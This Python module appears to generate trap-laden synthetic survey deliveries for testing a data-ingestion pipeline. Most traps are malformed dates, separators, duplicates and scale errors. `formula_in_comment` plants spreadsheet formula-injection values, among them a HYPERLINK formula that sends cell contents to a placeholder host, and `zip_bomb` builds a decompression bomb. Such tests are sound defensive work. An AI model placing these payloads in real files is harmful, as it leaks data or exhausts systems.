"""What each trap does to an organisation's deliveries, and what must come of it.

Belongs here: one function per trap of `traps.yml`, of the same name. Does not belong here: where a trap is planted
(`traps`). Expected codes are those that the receipt must hold at least.
"""

from __future__ import annotations

import gzip
import hashlib
from calendar import SUNDAY, monthrange
from collections.abc import Callable, Iterable
from copy import deepcopy
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import numpy as np

from synthetic.delivery import Delivery, Expected, Table
from synthetic.responses import expected
from synthetic.surveys import Question, Survey
from synthetic.writers import file_bytes

_BOMB_BYTES = 128 * 1024 * 1024
_EXCEL_DAY_ZERO = date(1899, 12, 30)
# The share of rows that a trap spoils where it spoils some: well above the one per cent that the gate lets pass.
_SOME = 0.06


@dataclass
class Scene:
    """An organisation's deliveries, which a trap changes; nothing may be stored after `latest`.

    `mapping_changes` replaces fields of its mapping, `valid_from` the mapping's first day.
    """

    survey: Survey
    deliveries: list[Delivery]
    rng: np.random.Generator
    latest: datetime
    valid_from: str
    mapping_changes: dict[str, Any] = field(default_factory=dict)

    @property
    def last(self) -> Delivery:
        """The delivery of the last month."""
        return self.deliveries[-1]

    @property
    def when(self) -> str:
        """The column of the moment."""
        when = self.survey.mapping["when"]
        return str(when.get("column") or when.get("path"))

    @property
    def when_format(self) -> str:
        """How that column writes a moment."""
        return str(self.survey.columns[self.when]["format"])

    def question(self, *kinds: str, floor: str = "") -> Question:
        """The first question on a scale of these kinds, for a node whose id begins with `floor`."""
        return next(
            one
            for one in self.survey.questions
            if one.scale_kind in kinds and one.node_id.startswith(floor) and not one.is_own
        )

    def some_rows(self, table: Table, at_least: int = 2) -> list[int]:
        """Indexes of some rows, evenly spread over the first half."""
        half = max(1, len(table.rows) // 2)
        count = min(half, max(at_least, int(np.ceil(_SOME * len(table.rows)))))
        return sorted({index * half // count for index in range(count)})


def _rejected(delivery: Delivery, *codes: str, in_file: int | None) -> None:
    delivery.expected = Expected(
        in_file, None if in_file is None else 0, in_file, status="rejected", codes=codes
    )
    if in_file is None:
        delivery.expected.duplicate = delivery.expected.excluded = delivery.expected.incomplete = None


def _held(delivery: Delivery, *codes: str) -> None:
    delivery.expected.status, delivery.expected.codes = "held", codes


def _partial(scene: Scene, delivery: Delivery, rows: Iterable[int], *codes: str) -> None:
    """These rows go to quarantine, the others count."""
    refused = set(rows)
    table = delivery.table
    kept = Table(table.columns, [row for index, row in enumerate(table.rows) if index not in refused])
    duplicates = delivery.expected.duplicate or 0
    counted = (
        Expected(len(kept.rows), len(kept.rows))
        if scene.survey.is_aggregate
        else expected(scene.survey, kept, duplicates)
    )
    delivery.expected = replace(
        counted, in_file=len(table.rows), quarantined=len(refused), status="partial", codes=codes
    )


def _otherwise(survey: Survey, source: dict[str, Any], export: dict[str, Any]) -> Survey:
    """The survey as another program would write it."""
    changed = survey.mapping | {"source": survey.source | source}
    return replace(survey, mapping=changed, export=survey.export | export)


def _rewrite(table: Table, column: str, write: Callable[[Any], Any]) -> None:
    at = table.at(column)
    for row in table.rows:
        row[at] = write(row[at])


def _moment(scene: Scene, cell: str) -> datetime:
    return datetime.strptime(cell, scene.when_format)


# --- characters, separators and rows ------------------------------------------------------------------------


def bom_on_cp1252(scene: Scene) -> list[Delivery]:
    """The mark is no part of the first column's name."""
    scene.last.content = b"\xef\xbb\xbf" + file_bytes(scene.survey, scene.last.table)
    return [scene.last]


def semicolons_and_decimal_comma(scene: Scene) -> list[Delivery]:
    """The declared separator is not there: nothing is guessed."""
    excel = _otherwise(
        scene.survey, {"delimiter": ";", "decimal": ",", "encoding": "cp1252"}, {"newline": "\r\n"}
    )
    scene.last.content = file_bytes(excel, scene.last.table)
    _rejected(scene.last, "MH-SCHEIDING", in_file=len(scene.last.table.rows))
    return [scene.last]


def line_ends_in_comments(scene: Scene) -> list[Delivery]:
    """A line end within quotes is text."""
    comments = scene.survey.columns_that_hold("comment")[0]
    _rewrite(scene.last.table, comments, lambda text: f"{text}\r\nMet vriendelijke groet,\r\neen inwoner")
    return [scene.last]


def total_row_and_footer(scene: Scene) -> list[Delivery]:
    """A row that adds up the others has no place among responses: the file is not what was agreed."""
    table = scene.last.table
    width = len(table.columns)
    table.rows.append(["Totaal", str(len(table.rows)), *[""] * (width - 2)])
    table.rows.append(["Bron: klantcontactcentrum", *[""] * (width - 1)])
    _rejected(scene.last, "MH-TOTAALRIJ", in_file=len(table.rows))
    return [scene.last]


def formula_in_comment(scene: Scene) -> list[Delivery]:
    """Text, whatever a spreadsheet would make of it."""
    at = scene.last.table.at(scene.survey.columns_that_hold("comment")[0])
    formulas = ('=HYPERLINK("https://example.nl/"&A1,"klik hier")', "+1+1", "@SUM(1+1)", "-2+3")
    for number, index in enumerate(scene.some_rows(scene.last.table, 4)):
        scene.last.table.rows[index][at] = formulas[number % len(formulas)]
    return [scene.last]


# --- workbooks and SPSS -------------------------------------------------------------------------------------


def merged_header(scene: Scene) -> list[Delivery]:
    """The names do not stand in the declared row."""
    title = {"title_rows": ["Klantmeting: kenmerken en antwoorden"], "has_merged_title": True}
    scene.last.content = file_bytes(_otherwise(scene.survey, {}, title), scene.last.table)
    _rejected(scene.last, "MH-KOLOM", in_file=None)
    return [scene.last]


def value_labels_differ(scene: Scene) -> list[Delivery]:
    """File and mapping contradict each other about the direction of a scale."""
    question = scene.question("likert_agree")
    labels = deepcopy(scene.survey.export["value_labels"])
    own = labels[question.name]
    answers = [code for code in own if question.low <= code <= question.high]
    turned = dict(zip(answers, [own[code] for code in reversed(answers)], strict=True))
    labels[question.name] = own | turned
    scene.last.content = file_bytes(_otherwise(scene.survey, {}, {"value_labels": labels}), scene.last.table)
    _held(scene.last, "MH-LABEL-RICHTING")
    return [scene.last]


def age_ninety_nine(scene: Scene) -> list[Delivery]:
    """An age of 99 is an age: a code is missing at the question that declares it, nowhere else."""
    at = scene.last.table.at(scene.survey.columns_that_hold("age")[0])
    for index in scene.some_rows(scene.last.table):
        scene.last.table.rows[index][at] = 99
    return [scene.last]


# --- dates and times ----------------------------------------------------------------------------------------


def us_dates(scene: Scene) -> list[Delivery]:
    """Days above 12 prove it; the others cannot be trusted either."""
    _rewrite(scene.last.table, scene.when, lambda cell: _moment(scene, cell).strftime("%m-%d-%Y"))
    _rejected(scene.last, "MH-K-DAGVOLGORDE", in_file=len(scene.last.table.rows))
    return [scene.last]


def excel_serial_dates(scene: Scene) -> list[Delivery]:
    """A number is no date unless a mapping could say so."""

    def serial(cell: Any) -> int:
        day = cell if isinstance(cell, date) else _moment(scene, cell).date()
        return (day - _EXCEL_DAY_ZERO).days

    _rewrite(scene.last.table, scene.when, serial)
    _rejected(scene.last, "MH-DATUM", in_file=len(scene.last.table.rows))
    return [scene.last]


def excel_day_month(scene: Scene) -> list[Delivery]:
    """Without a year there is no date: these rows go to quarantine."""
    at = scene.last.table.at(scene.when)
    rows = scene.some_rows(scene.last.table)
    for index in rows:
        scene.last.table.rows[index][at] = "6-mrt"
    _partial(scene, scene.last, rows, "MH-DATUM")
    return [scene.last]


def epoch_milliseconds(scene: Scene) -> list[Delivery]:
    """A number is no time."""

    def milliseconds(cell: str) -> int:
        moment = datetime.fromisoformat(cell)
        return int((moment if moment.tzinfo else moment.replace(tzinfo=UTC)).timestamp() * 1000)

    _rewrite(scene.last.table, scene.when, milliseconds)
    _rejected(scene.last, "MH-DATUM", in_file=len(scene.last.table.rows))
    return [scene.last]


def clock_changes(scene: Scene) -> list[Delivery]:
    """The hour that does not exist goes to quarantine; of the one that comes twice the first is taken."""
    before = scene.deliveries[0].month
    gap, twice = _last_sunday(before, 3), _last_sunday(before, 10)
    model = scene.last.table
    rows = [deepcopy(row) for row in model.rows[:20]]
    moments = [
        datetime.combine(gap, datetime.min.time()) + timedelta(hours=2, minutes=20 + number)
        if number < 2
        else datetime.combine(twice, datetime.min.time()) + timedelta(hours=2, minutes=10 + number)
        for number in range(len(rows))
    ]
    for number, (row, moment) in enumerate(zip(rows, moments, strict=True)):
        row[model.at(scene.when)] = moment.strftime(scene.when_format)
        for name in scene.survey.columns_that_hold("response_id"):
            row[model.at(name)] = f"90{number:06d}"
    extra = Delivery(
        key=scene.survey.export["file"].format(month="klok"),
        month=twice.replace(day=1),
        stored_at=min(scene.last.stored_at, scene.latest),
        table=Table(model.columns, rows),
        expected=expected(scene.survey, Table(model.columns, rows), 0),
    )
    _partial(scene, extra, range(min(2, len(rows))), "MH-TIJD", "MH-TIJD-DUBBEL")
    scene.valid_from = min(gap, twice).replace(day=1).isoformat()
    scene.deliveries.append(extra)
    return [extra]


def _last_sunday(before: date, month: int) -> date:
    """The last Sunday of that month in the last year in which it ended before `before`."""
    year = before.year if month < before.month else before.year - 1
    last = date(year, month, monthrange(year, month)[1])
    return last - timedelta(days=(last.weekday() - SUNDAY) % 7)


# --- deliveries again, in part, or not at all ---------------------------------------------------------------


def changed_response(scene: Scene) -> list[Delivery]:
    """The later one counts, the earlier one is a duplicate."""
    table, question = scene.last.table, scene.survey.questions[0]
    at, when = table.at(question.name), table.at(scene.when)
    index = next(
        number
        for number, row in enumerate(table.rows)
        if row[at] in question.cells and (_is_counted(scene, row))
    )
    changed = deepcopy(table.rows[index])
    changed[at] = question.cells[(question.cells.index(changed[at]) + 1) % len(question.cells)]
    changed[when] = _an_hour_later(scene, changed[when])
    table.rows.insert(index + 1, changed)
    counts = scene.last.expected
    scene.last.expected = replace(
        counts,
        in_file=len(table.rows),
        duplicate=(counts.duplicate or 0) + 1,
    )
    return [scene.last]


def _is_counted(scene: Scene, row: list[Any]) -> bool:
    counted = expected(scene.survey, Table(scene.last.table.columns, [row]), 0)
    return counted.excluded == 0 and counted.incomplete == 0


def _an_hour_later(scene: Scene, cell: str) -> str:
    if scene.when_format == "offset":
        return (datetime.fromisoformat(cell) + timedelta(hours=1)).isoformat()
    return (_moment(scene, cell) + timedelta(hours=1)).strftime(scene.when_format)


def _again(scene: Scene) -> Delivery:
    """The last month once more, under another name, a day later and with three rows fewer."""
    table = scene.last.table
    fewer = Table(table.columns, [deepcopy(row) for row in table.rows[:-3]])
    name, dot, suffix = scene.last.key.rpartition(".")
    again = Delivery(
        key=f"{name}-herlevering{dot}{suffix}",
        month=scene.last.month,
        stored_at=min(scene.last.stored_at + timedelta(days=1), scene.latest),
        table=fewer,
        expected=expected(scene.survey, fewer, 0),
    )
    scene.deliveries.append(again)
    return again


def redelivered_with_fewer_rows(scene: Scene) -> list[Delivery]:
    """The marker says that it is a correction: it takes the place of the first."""
    first, again = scene.last, _again(scene)
    again.marker = {"kind": "correction"}
    again.expected.codes = ("MH-VERVANGT",)
    first.expected.status = "replaced"
    return [again, first]


def two_versions_at_once(scene: Scene) -> list[Delivery]:
    """Nothing says which one applies: both wait for a decision."""
    first, again = scene.last, _again(scene)
    for delivery in (first, again):
        _held(delivery, "conflict")
    return [again, first]


def empty_file(scene: Scene) -> list[Delivery]:
    """No responses, and nobody said so."""
    scene.last.content, scene.last.marker = b"", None
    _rejected(scene.last, "MH-LEEG", in_file=0)
    return [scene.last]


def still_uploading(scene: Scene) -> list[Delivery]:
    """The marker names another size and hash: the file is not there yet."""
    whole = file_bytes(scene.survey, scene.last.table)
    scene.last.content = whole[: len(whole) * 3 // 5]
    scene.last.marker = {"sha256": hashlib.sha256(whole).hexdigest(), "size": len(whole)}
    unread = dict.fromkeys(("in_file", "processed", "quarantined", "duplicate", "excluded", "incomplete"))
    scene.last.expected = Expected(**unread, status="waiting", codes=("MH-WACHT",))
    return [scene.last]


def zip_bomb(scene: Scene) -> list[Delivery]:
    """The reader stops at its limits."""
    scene.last.content = gzip.compress(b'{"id": "' + b"0" * _BOMB_BYTES, mtime=0)
    _rejected(scene.last, "MH-LIMIET", in_file=None)
    return [scene.last]


# --- answers ------------------------------------------------------------------------------------------------


def two_languages(scene: Scene) -> list[Delivery]:
    """Labels that the mapping does not list are no answers; at a KPI that holds the delivery."""
    question = scene.question("likert_satisfaction", "likert_agree")
    at = scene.last.table.at(question.name)
    foreign = ("Strongly negative", "Negative", "In between", "Positive", "Strongly positive")
    for index in range(0, len(scene.last.table.rows), 3):
        row = scene.last.table.rows[index]
        if row[at] in question.cells:
            row[at] = foreign[question.cells.index(row[at])]
    _held(scene.last, "MH-ONGELDIG", "MH-K-ONGELDIG")
    return [scene.last]


def reversed_scale(scene: Scene) -> list[Delivery]:
    """Whoever was content is not any more: the driver's correlation with satisfaction has changed its sign."""
    question = scene.question("likert_agree", floor="drv.")
    turned = dict(zip(question.cells, reversed(question.cells), strict=True))
    _rewrite(scene.last.table, question.name, lambda cell: turned.get(cell, cell))
    _held(scene.last, "MH-K-OMGEKEERD")
    return [scene.last]


def outside_the_scale(scene: Scene) -> list[Delivery]:
    """Numbers outside the scale are no answers; at a KPI that holds the delivery."""
    question = scene.question("rapportcijfer")
    _spoil(scene, question, (0, 11))
    return [scene.last]


def half_marks(scene: Scene) -> list[Delivery]:
    """Halves are no answers where the mapping does not allow decimals."""
    question = scene.question("rapportcijfer")
    _spoil(scene, question, (7.5, 6.5))
    return [scene.last]


def not_applicable_spelled_five_ways(scene: Scene) -> list[Delivery]:
    """Capitals do not matter; other spellings are no answers until the mapping lists them."""
    question = scene.question("likert_agree")
    _spoil(scene, question, ("n.v.t.", "N.V.T.", "nvt", "n.v.t", "niet van toepassing"), 5)
    return [scene.last]


def _spoil(scene: Scene, question: Question, cells: tuple[Any, ...], at_least: int = 2) -> None:
    at = scene.last.table.at(question.name)
    for number, index in enumerate(scene.some_rows(scene.last.table, at_least)):
        scene.last.table.rows[index][at] = cells[number % len(cells)]
    _held(scene.last, "MH-ONGELDIG", "MH-K-ONGELDIG")


def thousands_dots(scene: Scene) -> list[Delivery]:
    """1.204 may be a thousand or a little over one: the line goes to quarantine."""
    table = scene.last.table
    table.rows[0][table.at(scene.survey.columns_that_hold("count")[0])] = "1.204"
    _partial(scene, scene.last, [0], "MH-AANTAL")
    return [scene.last]


PLANTING: dict[str, Callable[[Scene], list[Delivery]]] = {
    plant.__name__: plant
    for plant in (
        bom_on_cp1252, semicolons_and_decimal_comma, line_ends_in_comments, total_row_and_footer,
        formula_in_comment, merged_header, value_labels_differ, age_ninety_nine, us_dates, excel_serial_dates,
        excel_day_month, epoch_milliseconds, clock_changes, changed_response, redelivered_with_fewer_rows,
        two_versions_at_once, empty_file, still_uploading, zip_bomb, two_languages, reversed_scale,
        outside_the_scale, half_marks, not_applicable_spelled_five_ways, thousands_dots,
    )
}  # fmt: skip
